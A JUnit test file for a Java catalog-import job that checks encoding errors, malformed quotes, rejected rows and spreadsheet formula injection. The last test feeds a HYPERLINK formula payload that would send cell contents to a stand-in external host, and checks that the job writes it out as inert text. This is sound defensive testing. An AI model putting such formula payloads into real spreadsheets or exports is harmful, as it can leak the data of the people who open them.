package com.catalogimage;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import com.catalogimage.ops.ExitCodes;
import com.catalogimage.support.JobRun;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static com.catalogimage.support.CsvFiles.csv;
import static com.catalogimage.support.CsvFiles.summary;
import static org.assertj.core.api.Assertions.assertThat;

/** Catalogs as people and spreadsheets really write them, run through the whole job against the simulator. */
class CatalogInputJobTests {

	@TempDir
	Path workspace;

	@Test
	void aRowThatIsNotUtf8IsRejectedNamingLineAndFieldAndTheOtherRowsAreGenerated() throws IOException {
		// given: one Windows-1252 'é' in row 3's name, among UTF-8 rows
		Path input = this.workspace.resolve("products.csv");
		ByteArrayOutputStream catalog = new ByteArrayOutputStream();
		catalog.writeBytes("sku,name,description\nA-1,Ærø mug,Red\nA-2,Caf".getBytes(StandardCharsets.UTF_8));
		catalog.write(0xE9);
		catalog.writeBytes(" cup,Blue\nA-3,Bowl,Green\nA-4,Jug,White\n".getBytes(StandardCharsets.UTF_8));
		Files.write(input, catalog.toByteArray());
		JobRun job = new JobRun(this.workspace);
		// when
		JobRun.Result result = job.run("run", "--input", input.toString());
		// then
		assertThat(result.exitCode()).as(result.err()).isZero();
		assertThat(csv(job.output().resolve("report.csv"))).extracting(row -> row.get("sku"))
			.containsExactly("A-1", "A-3", "A-4");
		assertThat(csv(job.output().resolve("rejected.csv"))).singleElement().satisfies(row -> {
			assertThat(row.get("line")).isEqualTo("3");
			assertThat(row.get("sku")).isEqualTo("A-2");
			assertThat(row.get("field")).isEqualTo("name");
			assertThat(row.get("reason")).startsWith("not UTF-8: byte 0xE9 after 'Caf'; save the catalog as UTF-8");
		});
	}

	@Test
	void aWindows1252ExportFailsOnceNamingTheFileAndTheFirstBadLine() throws IOException {
		// given: Excel's plain "CSV" of a French catalog
		Path input = this.workspace.resolve("produits.csv");
		Files.writeString(input, "sku,name\nA-1,Tasse à café\nA-2,Théière\nA-3,Bol\n", Charset.forName("windows-1252"));
		JobRun job = new JobRun(this.workspace);
		// when
		JobRun.Result result = job.run("run", "--input", input.toString());
		// then
		assertThat(result.exitCode()).isEqualTo(ExitCodes.FAILED);
		assertThat(result.err()).contains("error: " + input.toAbsolutePath() + " is not UTF-8: 2 of its 3 lines")
			.contains("the first on line 2")
			.contains("save the catalog as UTF-8")
			.doesNotContain("Input length");
		assertThat(job.jdbc().queryForObject("select count(*) from catalog_item", Integer.class)).isZero();
	}

	@Test
	void anUnterminatedQuoteNamesTheFileAndTheLine() throws IOException {
		// given
		Path input = this.workspace.resolve("products.csv");
		Files.writeString(input, "sku,name\nA-1,Mug\nA-2,\"Bowl\nA-3,Cup\n");
		JobRun job = new JobRun(this.workspace);
		// when
		JobRun.Result result = job.run("run", "--input", input.toString());
		// then
		assertThat(result.exitCode()).isEqualTo(ExitCodes.FAILED);
		assertThat(result.err()).contains("error: " + input.toAbsolutePath() + ": line 3: a quoted value that starts in"
				+ " this row is never closed");
	}

	@Test
	void aCatalogWhoseEveryRowIsRejectedFailsAndReportsTheRejections() throws IOException {
		// given
		Path input = this.workspace.resolve("products.csv");
		Files.writeString(input, "sku,name,size\nA-1,Mug,huge\nA-2,,1K\n");
		JobRun job = new JobRun(this.workspace);
		// when
		JobRun.Result result = job.run("run", "--input", input.toString());
		// then
		assertThat(result.exitCode()).isEqualTo(ExitCodes.FAILED);
		assertThat(result.out()).contains("FAILED");
		assertThat(result.err()).contains("error: " + input.toAbsolutePath() + ": all 2 rows were rejected, nothing to"
				+ " generate; rejected.csv has each row's line, field and reason");
		assertThat(csv(job.output().resolve("rejected.csv"))).extracting(row -> row.get("field"))
			.containsExactly("size", "name");
		assertThat(job.jdbc().queryForList("select status from batch_job_execution", String.class))
			.containsExactly("FAILED");
		// and the same command fails the same way rather than calling it done
		JobRun.Result again = job.run("run", "--input", input.toString());
		assertThat(again.exitCode()).isEqualTo(ExitCodes.FAILED);
		assertThat(again.err()).contains("all 2 rows were rejected");
	}

	@Test
	void aFormulaInTheCatalogOrTheRunIdIsWrittenAsTextInEveryCsv() throws IOException {
		// given: a rejected SKU that Excel would run as a link, and a valid SKU that Excel reads as the formula -A1
		Path input = this.workspace.resolve("products.csv");
		Files.writeString(input, """
				sku,name
				"=HYPERLINK(""http://x.example/?""&A1;""click"")",Mug
				-A1,Bowl
				""");
		JobRun job = new JobRun(this.workspace);
		// when
		JobRun.Result result = job.run("run", "--input", input.toString(), "--run-id", "=1+2");
		// then
		assertThat(result.exitCode()).as(result.err()).isZero();
		List<CSVRecord> rejected = csv(job.output().resolve("rejected.csv"));
		assertThat(rejected).singleElement().satisfies(row -> {
			assertThat(row.get("line")).isEqualTo("2");
			assertThat(row.get("sku")).isEqualTo("'=HYPERLINK(\"http://x.example/?\"&A1;\"click\")");
			assertThat(row.get("field")).isEqualTo("sku");
		});
		assertThat(csv(job.output().resolve("report.csv"))).singleElement().satisfies(row -> {
			assertThat(row.get("sku")).isEqualTo("'-A1");
			assertThat(row.get("status")).isEqualTo("GENERATED");
			assertThat(row.get("image_path")).isEqualTo("images/-A1.jpg");
		});
		assertThat(summary(job.output().resolve("summary.csv"))).containsEntry("run_id", "'=1+2")
			.containsEntry("rejected_rows", "1");
	}

}
